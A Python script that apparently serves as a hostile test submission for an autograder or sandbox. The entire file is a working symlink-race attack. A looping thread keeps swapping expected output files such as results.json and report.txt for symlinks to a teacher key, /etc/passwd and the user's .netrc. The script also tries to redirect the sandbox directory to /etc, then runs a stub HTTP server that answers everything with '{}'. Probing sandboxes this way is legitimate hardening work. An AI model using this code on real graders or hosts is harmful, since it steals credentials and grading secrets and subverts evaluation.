"""Puts links where somebody with more rights might step on them, and changes them all the time."""

import json
import os
import pathlib
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

places = json.loads(pathlib.Path("map.json").read_text())
TARGETS = [places["writable"], places["course"] + "/teacher.key", "/etc/passwd", "/", places["home"] + "/.netrc"]
NAMES = ["run.sh", "stdout.txt", "stderr.txt", "results.json", "report.txt", "server.pyc", "__pycache__/x", ".assay", "core"]


def plant():
    turn = 0
    while True:
        for name in NAMES:
            target = TARGETS[turn % len(TARGETS)]
            turn += 1
            try:
                os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
                os.symlink(target, name + "~")
                os.rename(name + "~", name)
            except OSError:
                pass


for name in ("/box", os.getcwd()):
    try:
        os.rename(name, name + "-old")
        os.symlink("/etc", name)
        print("attempt box POSSIBLE", name)
        break
    except OSError as error:
        problem = error
else:
    print("attempt box refused", problem.strerror)
threading.Thread(target=plant, daemon=True).start()

class Handler(BaseHTTPRequestHandler):
    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_args):
        pass


ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
